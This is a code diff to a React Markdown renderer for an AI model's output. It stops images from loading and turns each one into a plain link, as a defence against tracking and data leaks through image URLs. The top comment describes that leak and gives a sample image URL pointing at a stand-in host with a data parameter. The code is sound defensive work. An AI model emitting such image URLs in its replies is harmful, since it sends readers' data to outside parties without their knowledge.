@@ -1,5 +1,7 @@
 // The model's Markdown: GitHub tables and lists, code blocks with a copy button, and every 0x address
-// or transaction hash turned into a short, copyable, explorer-linked reference.
+// or transaction hash turned into a short, copyable, explorer-linked reference. No image is ever
+// loaded: the model's text can carry a URL that reports who reads it (`![](https://x/?d=…)`), so an
+// image becomes a link the reader may follow, or not.
 import { memo, type ReactNode } from 'react';
 import ReactMarkdown, { type Components } from 'react-markdown';
 import remarkGfm from 'remark-gfm';
@@ -41,6 +43,32 @@ export function rehypeChainRefs() {
   return (tree: HastNode) => walk(tree);
 }
 
+/** Replaces every image with a link to it (its alt text, else its URL, as the link's text); an image
+ * inside a link becomes its alt text, as a link in a link is no HTML. */
+export function rehypeNoImages() {
+  const walk = (node: HastNode, inLink: boolean) => {
+    if (!node.children) return;
+    node.children = node.children.map(child => {
+      if (child.type !== 'element') return child;
+      if (child.tagName !== 'img') {
+        walk(child, inLink || child.tagName === 'a');
+        return child;
+      }
+      const src = typeof child.properties?.src === 'string' ? child.properties.src : '';
+      const alt = typeof child.properties?.alt === 'string' ? child.properties.alt.trim() : '';
+      const label = alt || src || 'image';
+      if (inLink || !src) return { type: 'text', value: label };
+      return {
+        type: 'element',
+        tagName: 'a',
+        properties: { href: src, title: `Image, not loaded: ${src}`, className: ['image-link'] },
+        children: [{ type: 'text', value: label }],
+      };
+    });
+  };
+  return (tree: HastNode) => walk(tree, false);
+}
+
 function textOf(children: ReactNode): string {
   if (typeof children === 'string' || typeof children === 'number') return String(children);
   if (Array.isArray(children)) return children.map(textOf).join('');
@@ -49,11 +77,13 @@ function textOf(children: ReactNode): string {
 
 const components = {
   'chain-ref': ({ value }: { value: string }) => <ChainRef value={value} />,
-  a: ({ href, children }) => (
-    <a href={href} target="_blank" rel="noreferrer noopener">
+  a: ({ href, title, className, children }) => (
+    <a href={href} title={title} className={className} target="_blank" rel="noreferrer noopener">
       {children}
     </a>
   ),
+  // The plugin leaves none; this is the second lock on the same door.
+  img: ({ src, alt }) => <span>{alt || (typeof src === 'string' ? src : '')}</span>,
   code: ({ className, children }) => {
     const text = textOf(children);
     // A lone address or hash in backticks is still a chain reference.
@@ -80,7 +110,7 @@ const components = {
 export const Markdown = memo(function Markdown({ text }: { text: string }) {
   return (
     <div className="markdown">
-      <ReactMarkdown remarkPlugins={[remarkGfm]} rehypePlugins={[rehypeChainRefs]} components={components}>
+      <ReactMarkdown remarkPlugins={[remarkGfm]} rehypePlugins={[rehypeNoImages, rehypeChainRefs]} components={components}>
         {text}
       </ReactMarkdown>
     </div>
